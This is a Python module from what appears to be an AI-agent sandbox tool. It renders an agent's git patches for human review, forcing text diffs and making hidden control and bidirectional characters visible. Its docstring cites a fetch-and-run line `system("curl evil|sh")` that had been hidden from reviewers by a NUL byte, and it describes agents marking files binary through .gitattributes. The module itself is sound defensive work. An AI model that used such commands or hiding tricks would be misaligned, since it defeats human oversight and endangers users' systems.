"""How a change is written and shown for review: one set of ``git diff`` options for every
patch hal writes or shows (a task's ``result.patch``, in the sandbox and again on the host,
and an ``apply`` proposal's diff), and one rendering of it for a reader.

Git calls a file binary when a NUL is in its first 8000 bytes, or when the repository's
attributes say so (``binary``, ``-diff``: the agent writes ``.gitattributes``), and then
prints only ``Binary files ... differ`` or a base85 blob: one NUL in a comment hid a
``system("curl evil|sh")`` from the reviewer. So every diff is written with ``--text``:
each change is its lines, whatever its bytes, and ``git apply`` still rebuilds the file
exactly (the NUL and every other byte travel as they are).

The rendering makes those bytes visible: control characters become their Unicode
control pictures (``\\x00`` is ``␀``, ESC ``␛``, DEL ``␡``), C1 controls, the
bidirectional overrides that reorder a line on screen and the characters drawn as nothing
are spelled out (``⟨U+202E⟩``), as every other viewer of the agent's text does. A file
section whose changed lines are mostly not text (:data:`BINARY_SHARE`; an image, an
archive) is shown as binary: its header, and one line in place of its lines giving its
size in changed bytes and its ``index`` line (both blob ids). A text file is therefore never shown
as binary unless most of what it changes is not text.
"""

from __future__ import annotations

import re

from hal9999.visible import SPELLED_OUT

SHOW_OPTIONS = (
    "--text", "--no-ext-diff", "--no-textconv", "--no-color", "--src-prefix=a/",
    "--dst-prefix=b/",
)  # fmt: skip
"""Options of every diff hal shows, pinned against the repository's own settings
(``noprefix``, external drivers, colour, attributes that call a text file binary)."""
DIFF_OPTIONS = (*SHOW_OPTIONS, "--binary")
"""Options of every patch hal writes: :data:`SHOW_OPTIONS`, and full blob ids for ``git
apply`` (``--binary`` implies ``--patch``: never with ``--stat`` alone)."""
BINARY_SHARE = 0.3
"""A file's changed lines with more than this share of characters that are not text are
shown as binary (random bytes decoded as UTF-8 are well over half; a text file with a few
odd bytes far under)."""
BINARY_MIN_CHARS = 256
"""A section shorter than this is always shown as its lines: too short to hide anything."""
SECTION_LIMIT = 8 << 20
"""A section is judged whole; past this many characters it is rendered as it arrives."""

_SECTION = "diff --git "
_SPELLED = {chr(code): text for code, text in SPELLED_OUT.items()}
_ODD = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ufffd" + "".join(map(re.escape, _SPELLED)) + "]")
"""What a reader cannot see as it is: control characters (but tab and newline), C1
controls, the bidirectional and invisible characters every viewer spells out
(:data:`hal9999.cli.task_table.SPELLED_OUT`), and U+FFFD (bytes that were not UTF-8)."""


def _visible(match: re.Match[str]) -> str:
    char = match.group()
    code = ord(char)
    if code < 0x20:
        return chr(0x2400 + code)
    if code == 0x7F:
        return "\u2421"
    if char == "\ufffd":
        return char
    return _SPELLED.get(char) or f"\u27e8U+{code:04X}\u27e9"


def _visible_but_escape(match: re.Match[str]) -> str:
    return match.group() if match.group() == "\x1b" else _visible(match)


def visible(text: str, *, keep_escape: bool = False) -> str:
    """``text`` with every character a reader cannot see made visible; with
    ``keep_escape``, ESC is left for a terminal's sanitiser (which keeps colours and drops
    every other sequence)."""
    return _ODD.sub(_visible_but_escape if keep_escape else _visible, text)


def _section(text: str, keep_escape: bool) -> str:
    """One file's section, rendered: its lines made visible, or shown as binary."""
    head, _, hunks = text.partition("\n@@")
    changed = [line[1:] for line in hunks.split("\n") if line.startswith(("+", "-"))]
    size = sum(len(line) + 1 for line in changed)
    odd = sum(len(_ODD.findall(line)) for line in changed)
    if size >= BINARY_MIN_CHARS and odd > size * BINARY_SHARE:
        index = next((line for line in head.split("\n") if line.startswith("index ")), "")
        # A hunk header of its own, so every viewer (the dashboard's too) shows it.
        note = (f"@@ binary content: {size} bytes of changed lines, {odd} of them not text"
                f"{f' ({index})' if index else ''}; the patch carries it exactly @@")  # fmt: skip
        return f"{visible(head, keep_escape=keep_escape)}\n{visible(note)}\n"
    return visible(text, keep_escape=keep_escape)


class ReviewRenderer:
    """Renders a patch that arrives in pieces, one whole file section at a time
    (``keep_escape``: see :func:`visible`)."""

    def __init__(self, *, keep_escape: bool = False) -> None:
        self._held = ""
        self._keep_escape = keep_escape

    def feed(self, text: str) -> str:
        """What is complete of ``text`` so far, rendered."""
        text = self._held + text
        cut = text.rfind("\n" + _SECTION)
        if cut == -1 and len(text) <= SECTION_LIMIT:
            self._held = text
            return ""
        if cut == -1:  # one huge section: shown as it comes, never held whole
            self._held = ""
            return visible(text, keep_escape=self._keep_escape)
        done, self._held = text[: cut + 1], text[cut + 1 :]
        return "".join(_section(part, self._keep_escape) for part in _split(done))

    def flush(self) -> str:
        """The rest, rendered."""
        held, self._held = self._held, ""
        return "".join(_section(part, self._keep_escape) for part in _split(held))


def _split(text: str) -> list[str]:
    parts = re.split(f"(?m)^(?={re.escape(_SECTION)})", text)
    return [part for part in parts if part]


def review_text(patch: str) -> str:
    """A whole patch as a reviewer sees it (see the module docstring)."""
    renderer = ReviewRenderer()
    return renderer.feed(patch) + renderer.flush()
